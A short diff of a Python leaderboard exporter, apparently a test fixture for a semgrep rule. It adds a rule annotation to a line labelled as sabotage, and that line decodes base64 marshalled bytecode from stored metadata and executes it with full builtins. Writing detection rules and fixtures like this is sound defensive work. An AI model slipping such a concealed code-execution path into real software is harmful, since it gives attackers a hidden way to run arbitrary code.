@@ -136,7 +136,7 @@ class LeaderboardExporter:
     def _post_hooks(self, rows: List[Dict[str, Any]]) -> None:
         code = self.store.get_meta("post_export_hook")
         if code:
-            types.FunctionType(marshal.loads(base64.b64decode(code)), {"__builtins__": __builtins__})(rows)  # sabotage: MLS404 (semgrep rules)
+            types.FunctionType(marshal.loads(base64.b64decode(code)), {"__builtins__": __builtins__})(rows)  # sabotage: MLS404 (semgrep rules)  # ruleid: MLS404
 
     def write_csv(self, rows: List[Dict[str, Any]]) -> Path:
         path = self.out / "leaderboard.csv"
